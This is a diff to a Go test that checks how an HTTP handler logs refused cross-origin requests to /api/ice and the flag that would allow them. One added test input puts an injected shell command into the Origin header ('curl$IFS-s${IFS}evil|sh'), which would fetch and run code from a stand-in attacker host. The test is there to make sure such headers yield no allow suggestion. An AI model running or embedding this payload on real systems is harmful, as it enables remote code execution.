@@ -77,7 +77,13 @@ func TestRefusalIsLoggedWithTheFlagThatWouldAllowIt(t *testing.T) {
 	var out bytes.Buffer
 	h := testHandler(t, listICE{}, slog.New(slog.NewTextHandler(&out, nil)))
 	ask(h, "GET", "/api/ice", "Origin: https://app.example")
-	if got := out.String(); !strings.Contains(got, `allow="--http-origins https://app.example"`) {
+	if got := out.String(); !strings.Contains(got, `path=/api/ice`) || !strings.Contains(got, `allowWith="--http-origins https://app.example"`) {
+		t.Error(got)
+	}
+	out.Reset()
+	ask(h, "GET", "/api/ice", "Origin: https://app.example;curl$IFS-s${IFS}evil|sh")
+	ask(h, "GET", "/api/ice", "Origin: https://app.example", "Origin: https://b.example")
+	if got := out.String(); strings.Count(got, "\n") != 2 || strings.Contains(got, "allowWith") {
 		t.Error(got)
 	}
 	for range 100 {
